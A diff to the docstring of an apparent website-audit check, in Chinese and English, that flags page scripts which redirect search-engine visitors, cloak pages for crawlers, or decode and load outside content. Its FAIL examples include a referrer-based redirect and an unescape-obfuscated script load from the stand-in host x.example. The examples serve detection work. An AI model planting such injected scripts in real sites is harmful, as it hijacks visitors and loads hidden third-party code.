@@ -1,7 +1,19 @@
-"""A script sends visitors who come from a search engine elsewhere, shows search engines another page, or hides what it
-loads.
+"""脚本把从搜索引擎来的访问者转走、给搜索引擎看另一个页面，或者用编码藏起要加载的外部内容。
 
-脚本把从搜索引擎来的访问者转走、给搜索引擎看另一个页面，或者用编码藏起要加载的外部内容。
+查什么：写在网页里的脚本。看访问者从哪里来、是哪个搜索引擎，然后转走或者改写标题的；解码以后从其他网站加载内容的。手机
+版跳转、访问统计、字体不是这样。单独的脚本文件不读。
+
+合格      if (/Android|iPhone/.test(navigator.userAgent)) location.href = "/m/"
+合格      <script src="https://hm.baidu.com/hm.js?…">
+不合格    if (document.referrer.indexOf("baidu") > 0) location.href = "http://x.example/"
+不合格    if (/Baiduspider/.test(navigator.userAgent)) document.title = "…"
+不合格    document.write(unescape("%3Cscript src=%22http://x.example/…"))
+无法判断  解码出来的是同类网站（gov.cn）的网址
+
+依据：政府网站与政务新媒体检查指标（国办秘函〔2019〕19号）单项否决“安全、泄密事故等严重问题”。
+
+A script sends visitors who come from a search engine elsewhere, shows search engines another page, or hides what it
+loads.
 
 What is asked: the scripts on the page itself. One that looks at where a visitor comes from, or which search engine
 reads, and then sends elsewhere or renames the page; one that decodes and then loads from another host. A page for
@@ -13,8 +25,6 @@ FAIL     if (document.referrer.indexOf("baidu") > 0) location.href = "http://x.e
 FAIL     if (/Baiduspider/.test(navigator.userAgent)) document.title = "…"
 FAIL     document.write(unescape("%3Cscript src=%22http://x.example/…"))
 UNKNOWN  where the decoded address is one of the site's own kind (gov.cn)
-
-依据：政府网站与政务新媒体检查指标（国办秘函〔2019〕19号）单项否决“安全、泄密事故等严重问题”。
 """
 
 from __future__ import annotations
